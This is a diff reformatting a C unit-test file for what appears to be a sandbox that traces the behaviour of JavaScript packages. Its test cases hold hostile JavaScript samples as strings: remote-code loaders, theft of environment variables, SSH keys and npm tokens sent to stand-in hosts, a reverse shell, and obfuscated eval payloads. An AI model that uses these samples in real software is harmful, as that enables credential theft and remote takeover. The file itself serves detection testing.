@@ -3,6 +3,7 @@
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
+
 #include <cmocka.h>
 
 #include <time.h>
@@ -33,14 +34,21 @@ static RtLayerId find_from_root(RtSink *sink, RtLayerId from, RtStr path)
     return 0;
 }
 
-static FakeSink *package(const char *name, const char *script, const char *other_name, const char *other)
+static FakeSink *package(const char *name, const char *script, const char *other_name,
+                         const char *other)
 {
     FakeSink *fake = fake_sink_open(RT_STR("package"), RT_STR(""));
     fake->sink.find = find_from_root;
     fake->ms_left = 20000;
-    fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1, .via = RT_VIA_ENTRY, .name = rt_str_from_c(name), .bytes = rt_str_from_c(script) });
+    fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1,
+                                             .via = RT_VIA_ENTRY,
+                                             .name = rt_str_from_c(name),
+                                             .bytes = rt_str_from_c(script) });
     if (other_name != NULL)
-        fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1, .via = RT_VIA_ENTRY, .name = rt_str_from_c(other_name), .bytes = rt_str_from_c(other) });
+        fake->sink.layer(&fake->sink, (RtLayer){ .parent = 1,
+                                                 .via = RT_VIA_ENTRY,
+                                                 .name = rt_str_from_c(other_name),
+                                                 .bytes = rt_str_from_c(other) });
     return fake;
 }
 
@@ -56,47 +64,123 @@ typedef struct {
 } Case;
 
 static const Case flows[] = {
-    { "network to eval", "a.js", "require('https').get('https://example.invalid/s', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })",
-      "net.request|https://example.invalid/s|GET\ncode.eval|<net>|eval <- net.request", NULL, NULL },
-    { "network to Function by constructor", "a.js", "require('axios').get('https://example.invalid/s').then(r => (() => {}).constructor('require', r.data.code)(require))",
+    { "network to eval", "a.js",
+      "require('https').get('https://example.invalid/s', r => { let d = ''; r.on('data', c => d += "
+      "c); r.on('end', () => eval(d)); })",
+      "net.request|https://example.invalid/s|GET\ncode.eval|<net>|eval <- net.request", NULL,
+      NULL },
+    { "network to Function by constructor", "a.js",
+      "require('axios').get('https://example.invalid/s').then(r => (() => "
+      "{}).constructor('require', r.data.code)(require))",
       "code.eval|<net>|Function <- net.request", NULL, NULL },
-    { "in the error path", "a.js", "require('axios').get('https://example.invalid/s').then(() => {}).catch(e => eval(e.response.data.token))", "code.eval|<net>|eval <- net.request", NULL, NULL },
-    { "only text will do", "a.js", "fetch('https://example.invalid/s').then(r => r.json()).then(d => { if (typeof d.cookie === 'string') new Function(d.cookie)(); })",
+    { "in the error path", "a.js",
+      "require('axios').get('https://example.invalid/s').then(() => {}).catch(e => "
+      "eval(e.response.data.token))",
+      "code.eval|<net>|eval <- net.request", NULL, NULL },
+    { "only text will do", "a.js",
+      "fetch('https://example.invalid/s').then(r => r.json()).then(d => { if (typeof d.cookie === "
+      "'string') new Function(d.cookie)(); })",
       "code.eval|<net>|Function <- net.request", NULL, NULL },
-    { "behind xor", "a.js", "fetch('https://example.invalid/s').then(r => r.text()).then(t => { let o = ''; for (let i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 42); eval(o) })",
+    { "behind xor", "a.js",
+      "fetch('https://example.invalid/s').then(r => r.text()).then(t => { let o = ''; for (let i = "
+      "0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 42); eval(o) })",
       "code.eval|", NULL, NULL },
-    { "network to file to process", "a.js", "const fs = require('fs'), p = require('path').join(require('os').tmpdir(), 'run.bin');\nrequire('http').get('http://192.0.2.1/b', r => r.pipe(fs.createWriteStream(p)).on('finish', () => { fs.chmodSync(p, 0o755); require('child_process').spawn(p, [], { detached: true, stdio: 'ignore' }).unref() }))",
-      "file.write|/tmp/run.bin|<net>||write <- net.request\nfile.chmod|/tmp/run.bin|755 <- file.write\nproc.exec|/tmp/run.bin|spawn|detached ignore <- file.write", NULL, NULL },
-    { "network to node -e", "a.js", "fetch('https://example.invalid/s').then(r => r.text()).then(t => require('child_process').spawn('node', ['-e', Buffer.from(t, 'base64').toString()]))",
+    { "network to file to process", "a.js",
+      "const fs = require('fs'), p = require('path').join(require('os').tmpdir(), "
+      "'run.bin');\nrequire('http').get('http://192.0.2.1/b', r => "
+      "r.pipe(fs.createWriteStream(p)).on('finish', () => { fs.chmodSync(p, 0o755); "
+      "require('child_process').spawn(p, [], { detached: true, stdio: 'ignore' }).unref() }))",
+      "file.write|/tmp/run.bin|<net>||write <- net.request\nfile.chmod|/tmp/run.bin|755 <- "
+      "file.write\nproc.exec|/tmp/run.bin|spawn|detached ignore <- file.write",
+      NULL, NULL },
+    { "network to node -e", "a.js",
+      "fetch('https://example.invalid/s').then(r => r.text()).then(t => "
+      "require('child_process').spawn('node', ['-e', Buffer.from(t, 'base64').toString()]))",
       "proc.exec|node -e <net>|spawn <- net.request", NULL, NULL },
-    { "environment to network in base64", "a.js", "const b = Buffer.from(JSON.stringify(process.env)).toString('base64'); const q = require('https').request({ hostname: 'example.invalid', path: '/u', method: 'POST' }); q.write(b); q.end()",
+    { "environment to network in base64", "a.js",
+      "const b = Buffer.from(JSON.stringify(process.env)).toString('base64'); const q = "
+      "require('https').request({ hostname: 'example.invalid', path: '/u', method: 'POST' }); "
+      "q.write(b); q.end()",
       "env.read|*\nnet.request|https://example.invalid/u|POST", NULL, NULL },
-    { "key file and host name to network", "a.js", "const os = require('os'), fs = require('fs'); fetch('https://example.invalid/u', { method: 'POST', body: Buffer.from(os.hostname() + fs.readFileSync(os.homedir() + '/.ssh/id_rsa')).toString('hex') })",
+    { "key file and host name to network", "a.js",
+      "const os = require('os'), fs = require('fs'); fetch('https://example.invalid/u', { method: "
+      "'POST', body: Buffer.from(os.hostname() + fs.readFileSync(os.homedir() + "
+      "'/.ssh/id_rsa')).toString('hex') })",
       "file.read|/home/dev/.ssh/id_rsa", NULL, NULL },
-    { "host name in a name that is looked up", "a.js", "require('dns').lookup(require('os').hostname() + '.example.invalid', () => {})", "net.dns|<host>.example.invalid|A <- host.info", NULL, NULL },
-    { "reverse shell", "a.js", "const s = require('net').connect(4444, '192.0.2.9'), sh = require('child_process').spawn('/bin/sh', []); s.on('data', d => { sh.stdin.write(d); sh.stdin.end() }); sh.stdout.pipe(s)",
+    { "host name in a name that is looked up", "a.js",
+      "require('dns').lookup(require('os').hostname() + '.example.invalid', () => {})",
+      "net.dns|<host>.example.invalid|A <- host.info", NULL, NULL },
+    { "reverse shell", "a.js",
+      "const s = require('net').connect(4444, '192.0.2.9'), sh = "
+      "require('child_process').spawn('/bin/sh', []); s.on('data', d => { sh.stdin.write(d); "
+      "sh.stdin.end() }); sh.stdout.pipe(s)",
       "net.connect|192.0.2.9|4444||tcp\nproc.exec|/bin/sh|stdin||<net>", NULL, NULL },
-    { "chain dead drop", "a.js", "const rpc = (m, p) => fetch('https://rpc.example.invalid', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: m, params: p }) }).then(r => r.json()).then(r => r.result);\nrpc('eth_getTransactionByHash', ['0x1']).then(t => eval(Buffer.from(t.input.slice(2), 'hex').toString().split('?.?')[1]))",
+    { "chain dead drop", "a.js",
+      "const rpc = (m, p) => fetch('https://rpc.example.invalid', { method: 'POST', body: "
+      "JSON.stringify({ jsonrpc: '2.0', id: 1, method: m, params: p }) }).then(r => "
+      "r.json()).then(r => r.result);\nrpc('eth_getTransactionByHash', ['0x1']).then(t => "
+      "eval(Buffer.from(t.input.slice(2), 'hex').toString().split('?.?')[1]))",
       "code.eval|<net>|eval <- net.request", NULL, NULL },
-    { "what an answer is compared with", "a.js", "fetch('https://example.invalid/s').then(r => r.json()).then(d => { if (d.status === 'go') fetch('https://example.invalid/2').then(r => r.text()).then(t => eval(t)) })",
-      "net.request|https://example.invalid/2|GET\ncode.eval|<net>|eval <- net.request", NULL, NULL },
-    { "a missing global is given", "a.js", "document.title; var w = new ActiveXObject('WScript.Shell'); w.Run('powershell -c calc')", "proc.exec|powershell -c calc|WScript.Shell.Run", NULL, NULL },
-    { "only on Windows", "a.js", "if (process.platform === 'win32') require('child_process').exec('cmd /c echo 1')", "proc.exec|cmd /c echo 1|exec", NULL, NULL },
-    { "an exported function", "a.js", "exports.go = async function (name) { const r = await fetch('https://example.invalid/' + name); eval(await r.text()) }", "code.eval|<net>|eval <- net.request", NULL, NULL },
-    { "ECMAScript modules", "a.mjs", "import { exec } from 'node:child_process'; import x, { y } from 'unknown-thing'; import z from './b.js'; const t = await (await fetch('https://example.invalid/s')).text(); exec(t); exec(z.word)",
-      "proc.exec|<net>|exec <- net.request\nproc.exec|from-b|exec", "b.js", "exports.word = 'from-b'" },
-    { "TypeScript", "a.ts", "interface A { x: number }\nimport type { B } from './b';\nconst f = async <T>(u: string, n?: number): Promise<T> => (await fetch(u as string)).text() as any;\nf<string>('https://example.invalid/s')!.then((t: any) => eval(t));",
+    { "what an answer is compared with", "a.js",
+      "fetch('https://example.invalid/s').then(r => r.json()).then(d => { if (d.status === 'go') "
+      "fetch('https://example.invalid/2').then(r => r.text()).then(t => eval(t)) })",
+      "net.request|https://example.invalid/2|GET\ncode.eval|<net>|eval <- net.request", NULL,
+      NULL },
+    { "a missing global is given", "a.js",
+      "document.title; var w = new ActiveXObject('WScript.Shell'); w.Run('powershell -c calc')",
+      "proc.exec|powershell -c calc|WScript.Shell.Run", NULL, NULL },
+    { "only on Windows", "a.js",
+      "if (process.platform === 'win32') require('child_process').exec('cmd /c echo 1')",
+      "proc.exec|cmd /c echo 1|exec", NULL, NULL },
+    { "an exported function", "a.js",
+      "exports.go = async function (name) { const r = await fetch('https://example.invalid/' + "
+      "name); eval(await r.text()) }",
       "code.eval|<net>|eval <- net.request", NULL, NULL },
-    { "a tail behind a page that cannot run", "a.jsx", "import React from 'react';\nthrow new Error('no host');\nexport default () => <div>hello</div>;                                                                                                  eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gdGFpbCcp')); /* padding padding padding padding padding padding padding padding padding padding padding padding padding padding padding padding */",
+    { "ECMAScript modules", "a.mjs",
+      "import { exec } from 'node:child_process'; import x, { y } from 'unknown-thing'; import z "
+      "from './b.js'; const t = await (await fetch('https://example.invalid/s')).text(); exec(t); "
+      "exec(z.word)",
+      "proc.exec|<net>|exec <- net.request\nproc.exec|from-b|exec", "b.js",
+      "exports.word = 'from-b'" },
+    { "TypeScript", "a.ts",
+      "interface A { x: number }\nimport type { B } from './b';\nconst f = async <T>(u: string, "
+      "n?: number): Promise<T> => (await fetch(u as string)).text() as "
+      "any;\nf<string>('https://example.invalid/s')!.then((t: any) => eval(t));",
+      "code.eval|<net>|eval <- net.request", NULL, NULL },
+    { "a tail behind a page that cannot run", "a.jsx",
+      "import React from 'react';\nthrow new Error('no host');\nexport default () => "
+      "<div>hello</div>;                                                                           "
+      "                       "
+      "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gdGFpbCcp')); /* padding padding "
+      "padding padding padding padding padding padding padding padding padding padding padding "
+      "padding padding padding */",
       "proc.exec|echo tail|exec", NULL, NULL },
-    { "evaluated text is a layer", "a.js", "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gbGF5ZXInKQ==', 'base64').toString())", "proc.exec|echo layer|exec", NULL, NULL },
-    { "written and then loaded", "a.js", "require('fs').writeFileSync('/tmp/w.js', \"require('child_process').exec('echo written')\"); require('/tmp/w.js')", "code.require|/tmp/w.js|written <- file.write\nproc.exec|echo written|exec", NULL, NULL },
+    { "evaluated text is a layer", "a.js",
+      "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gbGF5ZXInKQ==', "
+      "'base64').toString())",
+      "proc.exec|echo layer|exec", NULL, NULL },
+    { "written and then loaded", "a.js",
+      "require('fs').writeFileSync('/tmp/w.js', \"require('child_process').exec('echo "
+      "written')\"); require('/tmp/w.js')",
+      "code.require|/tmp/w.js|written <- file.write\nproc.exec|echo written|exec", NULL, NULL },
     { "real ciphers and zlib", "a.js",
-      "const c = require('crypto'), z = require('zlib'); const k = Buffer.alloc(32, 1), v = Buffer.alloc(16, 2); const e = c.createCipheriv('aes-256-cbc', k, v); const t = Buffer.concat([e.update(z.gzipSync(\"require('child_process').exec('echo '+require('crypto').createHash('md5').update('a').digest('hex'))\")), e.final()]); const d = c.createDecipheriv('aes-256-cbc', k, v); eval(z.gunzipSync(Buffer.concat([d.update(t), d.final()])).toString())",
+      "const c = require('crypto'), z = require('zlib'); const k = Buffer.alloc(32, 1), v = "
+      "Buffer.alloc(16, 2); const e = c.createCipheriv('aes-256-cbc', k, v); const t = "
+      "Buffer.concat([e.update(z.gzipSync(\"require('child_process').exec('echo "
+      "'+require('crypto').createHash('md5').update('a').digest('hex'))\")), e.final()]); const d "
+      "= c.createDecipheriv('aes-256-cbc', k, v); eval(z.gunzipSync(Buffer.concat([d.update(t), "
+      "d.final()])).toString())",
       "proc.exec|echo 0cc175b9c0f1b6a831c399e269772661|exec", NULL, NULL },
-    { "constructing is not doing", "a.js", "const http = require('http'); new http.Agent(); new (require('net').Socket)(); require('axios').create({ baseURL: 'https://example.invalid' })", "!net.", NULL, NULL },
-    { "a template engine is no loader", "a.js", "exports.compile = t => new Function('d', 'return ' + JSON.stringify(t) + ' + d')('x')", "!net.\n!proc.", NULL, NULL },
-    { "settings from its own file", "a.js", "const c = require('./config.json'); require('child_process').exec('echo ' + c.word)", "proc.exec|echo fine|exec", "config.json", "{\"word\":\"fine\"}" },
+    { "constructing is not doing", "a.js",
+      "const http = require('http'); new http.Agent(); new (require('net').Socket)(); "
+      "require('axios').create({ baseURL: 'https://example.invalid' })",
+      "!net.", NULL, NULL },
+    { "a template engine is no loader", "a.js",
+      "exports.compile = t => new Function('d', 'return ' + JSON.stringify(t) + ' + d')('x')",
+      "!net.\n!proc.", NULL, NULL },
+    { "settings from its own file", "a.js",
+      "const c = require('./config.json'); require('child_process').exec('echo ' + c.word)",
+      "proc.exec|echo fine|exec", "config.json", "{\"word\":\"fine\"}" },
 };
 
 static void test_flows(void **state)
@@ -104,7 +188,8 @@ static void test_flows(void **state)
     (void)state;
     int missing = 0;
     for (size_t i = 0; i < RT_COUNT(flows); i++) {
-        FAKE_SINK fake = package(flows[i].file, flows[i].script, flows[i].other_name, flows[i].other);
+        FAKE_SINK fake =
+            package(flows[i].file, flows[i].script, flows[i].other_name, flows[i].other);
         missing += miss_facts(flows[i].name, run(fake), flows[i].wanted);
     }
     assert_int_equal(missing, 0);
@@ -114,7 +199,8 @@ static bool reaches(const FakeSink *fake, RtFactId id, RtFactKind kind, int dept
 {
     const RtFact *fact = &fake->facts[id];
     for (size_t i = 0; i < fact->because_count && depth > 0; i++) {
-        if (fake->facts[fact->because[i]].kind == kind || reaches(fake, fact->because[i], kind, depth - 1))
+        if (fake->facts[fact->because[i]].kind == kind ||
+            reaches(fake, fact->because[i], kind, depth - 1))
             return true;
     }
     return false;
@@ -128,11 +214,23 @@ static void test_destroyed_bytes(void **state)
         const char *script;
         RtFactKind sink, source;
     } cases[] = {
-        { "fetch('https://example.invalid/s').then(r => r.text()).then(t => { let o = ''; for (let i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 42); eval(o) })", RT_FACT_CODE_EVAL, RT_FACT_NET_REQUEST },
-        { "fetch('https://example.invalid/s').then(r => r.text()).then(t => require('child_process').exec(t.split('').map(c => c.charCodeAt(0) * 3).join('.')))", RT_FACT_PROC_EXEC, RT_FACT_NET_REQUEST },
-        { "const t = process.env.NPM_TOKEN; fetch('https://example.invalid/u', { method: 'POST', body: [...t].map(c => c.charCodeAt(0) ^ 7).join('-') })", RT_FACT_NET_REQUEST, RT_FACT_ENV_READ },
-        { "const k = require('fs').readFileSync('/home/dev/.ssh/id_rsa'); const c = require('crypto').createCipheriv('aes-128-cbc', Buffer.alloc(16), Buffer.alloc(16)); fetch('https://example.invalid/u', { method: 'POST', body: c.update(k, null, 'base64') + c.final('base64') })", RT_FACT_NET_REQUEST, RT_FACT_FILE_READ },
-        { "const b = Buffer.from(JSON.stringify(process.env)).toString('base64'); fetch('https://example.invalid/u?d=' + encodeURIComponent(b))", RT_FACT_NET_REQUEST, RT_FACT_ENV_READ },
+        { "fetch('https://example.invalid/s').then(r => r.text()).then(t => { let o = ''; for (let "
+          "i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 42); eval(o) })",
+          RT_FACT_CODE_EVAL, RT_FACT_NET_REQUEST },
+        { "fetch('https://example.invalid/s').then(r => r.text()).then(t => "
+          "require('child_process').exec(t.split('').map(c => c.charCodeAt(0) * 3).join('.')))",
+          RT_FACT_PROC_EXEC, RT_FACT_NET_REQUEST },
+        { "const t = process.env.NPM_TOKEN; fetch('https://example.invalid/u', { method: 'POST', "
+          "body: [...t].map(c => c.charCodeAt(0) ^ 7).join('-') })",
+          RT_FACT_NET_REQUEST, RT_FACT_ENV_READ },
+        { "const k = require('fs').readFileSync('/home/dev/.ssh/id_rsa'); const c = "
+          "require('crypto').createCipheriv('aes-128-cbc', Buffer.alloc(16), Buffer.alloc(16)); "
+          "fetch('https://example.invalid/u', { method: 'POST', body: c.update(k, null, 'base64') "
+          "+ c.final('base64') })",
+          RT_FACT_NET_REQUEST, RT_FACT_FILE_READ },
+        { "const b = Buffer.from(JSON.stringify(process.env)).toString('base64'); "
+          "fetch('https://example.invalid/u?d=' + encodeURIComponent(b))",
+          RT_FACT_NET_REQUEST, RT_FACT_ENV_READ },
     };
     for (size_t i = 0; i < RT_COUNT(cases); i++) {
         FAKE_SINK fake = package("a.js", cases[i].script, NULL, NULL);
@@ -149,7 +247,11 @@ static void test_destroyed_bytes(void **state)
 static void test_layers(void **state)
 {
     (void)state;
-    FAKE_SINK fake = package("a.js", "eval(\"var layered = 'a text that was evaluated'\"); require('fs').writeFileSync('/tmp/left.sh', '#!/bin/sh\\necho a script that was written')", NULL, NULL);
+    FAKE_SINK fake = package(
+        "a.js",
+        "eval(\"var layered = 'a text that was evaluated'\"); "
+        "require('fs').writeFileSync('/tmp/left.sh', '#!/bin/sh\\necho a script that was written')",
+        NULL, NULL);
     run(fake);
     const RtLayer *evaluated = fake_sink_layer_with(fake, RT_STR("a text that was evaluated'"));
     assert_non_null(evaluated);
@@ -205,17 +307,23 @@ static const char *const hostile[] = {
     "let x = require('unknown'); for (;;) x = x.next",
     "for (const y of function* () { for (;;) yield 1 }()) ;",
     "Object.prototype.then = function () { for (;;); }; Promise.resolve({})",
-    "Array.prototype.push = String.prototype.split = Object.defineProperty = function () { throw 1 }; Function.prototype.call = null",
-    "for (const k of Object.getOwnPropertyNames(globalThis)) try { delete globalThis[k] } catch (e) {}",
-    "Object.getPrototypeOf(require).call = 1; Object.getPrototypeOf(Object.getPrototypeOf(process)).on = 1",
+    "Array.prototype.push = String.prototype.split = Object.defineProperty = function () { throw 1 "
+    "}; Function.prototype.call = null",
+    "for (const k of Object.getOwnPropertyNames(globalThis)) try { delete globalThis[k] } catch "
+    "(e) {}",
+    "Object.getPrototypeOf(require).call = 1; "
+    "Object.getPrototypeOf(Object.getPrototypeOf(process)).on = 1",
     "require('fs').writeFileSync({ get toString() { for (;;); } }, 'x')",
     "require('http').get(new Proxy({}, { get() { throw 1 } }))",
     "require('http').get(new Proxy({}, { get(t, k, r) { return r } }))",
-    "fetch('http://192.0.2.1/', { body: { toJSON() { return new Proxy({}, { ownKeys() { for (;;); } }) } } })",
+    "fetch('http://192.0.2.1/', { body: { toJSON() { return new Proxy({}, { ownKeys() { for (;;); "
+    "} }) } } })",
     "process.exit(0); process.abort()",
-    "Symbol.prototype[Symbol.toPrimitive] = null; Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0)",
+    "Symbol.prototype[Symbol.toPrimitive] = null; Atomics.wait(new Int32Array(new "
+    "SharedArrayBuffer(8)), 0, 0)",
     "Error.prepareStackTrace = () => { for (;;); }; null.x",
-    "class A extends (require('x')) { constructor() { super(); this.#a() } #a() { this.#a() } } new A()",
+    "class A extends (require('x')) { constructor() { super(); this.#a() } #a() { this.#a() } } "
+    "new A()",
     "throw { toString() { throw { toString() { for (;;); } } } }",
     "import('data:text/javascript,for(;;);')",
     "eval('('.repeat(1e5)); eval('['.repeat(1e6))",
@@ -229,7 +337,8 @@ static void test_hostile_scripts(void **state)
     (void)state;
     for (size_t i = 0; i < RT_COUNT(hostile); i++) {
         FAKE_SINK fake = package("a.js", hostile[i], NULL, NULL);
-        RtStr script = rt_str_format(fake->sink.arena, "require('child_process').exec('echo before');\n%s", hostile[i]);
+        RtStr script = rt_str_format(
+            fake->sink.arena, "require('child_process').exec('echo before');\n%s", hostile[i]);
         fake->layers[2].bytes = script;
         uint32_t started = cpu_ms();
         run(fake);
@@ -244,7 +353,11 @@ static void test_hostile_scripts(void **state)
 static void test_same_bytes_same_trace(void **state)
 {
     (void)state;
-    const char *script = "const c = require('crypto'); fetch('https://example.invalid/' + Math.random() + Date.now() + c.randomBytes(8).toString('hex') + process.pid + process.hrtime()[1] + new Error().stack.length).then(r => r.text()).then(t => eval(t)); for (const k in process.env) require('fs').writeFileSync('/tmp/' + k, process.env[k])";
+    const char *script =
+        "const c = require('crypto'); fetch('https://example.invalid/' + Math.random() + "
+        "Date.now() + c.randomBytes(8).toString('hex') + process.pid + process.hrtime()[1] + new "
+        "Error().stack.length).then(r => r.text()).then(t => eval(t)); for (const k in "
+        "process.env) require('fs').writeFileSync('/tmp/' + k, process.env[k])";
     FAKE_SINK first = package("a.js", script, NULL, NULL);
     FAKE_SINK second = package("a.js", script, NULL, NULL);
     RtStr a = run(first), b = run(second);
@@ -259,8 +372,14 @@ static void test_marks(void **state)
     uint8_t mark[RT_MARK_LEN];
     for (uint32_t slot = 0; slot < RT_MARK_SLOTS; slot += 997) {
         rt_mark_write(slot, slot % 36, mark);
-        RtStr text = rt_str_format(arena, "some words %.8s%.8s and more", (const char *)mark, (const char *)mark);
-        RtStr forms[6] = { text, rt_hex(arena, text), pack_base64(arena, text), pack_base64(arena, rt_hex(arena, text)), pack_gzip(arena, text), pack_base64(arena, pack_zlib(arena, text)) };
+        RtStr text = rt_str_format(arena, "some words %.8s%.8s and more", (const char *)mark,
+                                   (const char *)mark);
+        RtStr forms[6] = { text,
+                           rt_hex(arena, text),
+                           pack_base64(arena, text),
+                           pack_base64(arena, rt_hex(arena, text)),
+                           pack_gzip(arena, text),
+                           pack_base64(arena, pack_zlib(arena, text)) };
         for (size_t i = 0; i < RT_COUNT(forms); i++) {
             uint32_t slots[4];
             assert_int_equal(rt_marks_find(arena, forms[i], slots, 4), 1);
@@ -269,7 +388,8 @@ static void test_marks(void **state)
         assert_int_equal(rt_marks_weight(text), 16);
     }
     uint32_t slots[4];
-    assert_int_equal(rt_marks_find(arena, RT_STR("q7xabcde q7x q7 q7x0000 nothing of ours"), slots, 4), 0);
+    assert_int_equal(
+        rt_marks_find(arena, RT_STR("q7xabcde q7x q7 q7x0000 nothing of ours"), slots, 4), 0);
 }
 
 static void test_inflate(void **state)
@@ -288,7 +408,8 @@ static void test_inflate(void **state)
         assert_false(rt_inflate(arena, forms[i], packed[i], 100, &out));
         for (size_t cut = 0; cut + 12 < packed[i].len; cut += 499)
             assert_false(rt_inflate(arena, forms[i], rt_str_sub(packed[i], 0, cut), 1 << 20, &out));
-        assert_true(rt_inflate(arena, forms[i], rt_deflate_stored(arena, forms[i], text), 1 << 20, &out));
+        assert_true(
+            rt_inflate(arena, forms[i], rt_deflate_stored(arena, forms[i], text), 1 << 20, &out));
         assert_true(rt_str_equal(out, text));
     }
 }
@@ -314,8 +435,9 @@ static int close_emulator(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_flows),           cmocka_unit_test(test_destroyed_bytes), cmocka_unit_test(test_layers),
-        cmocka_unit_test(test_places),          cmocka_unit_test(test_hostile_scripts), cmocka_unit_test(test_same_bytes_same_trace),
+        cmocka_unit_test(test_flows),           cmocka_unit_test(test_destroyed_bytes),
+        cmocka_unit_test(test_layers),          cmocka_unit_test(test_places),
+        cmocka_unit_test(test_hostile_scripts), cmocka_unit_test(test_same_bytes_same_trace),
         cmocka_unit_test(test_marks),           cmocka_unit_test(test_inflate),
     };
     return cmocka_run_group_tests(tests, open_emulator, close_emulator);
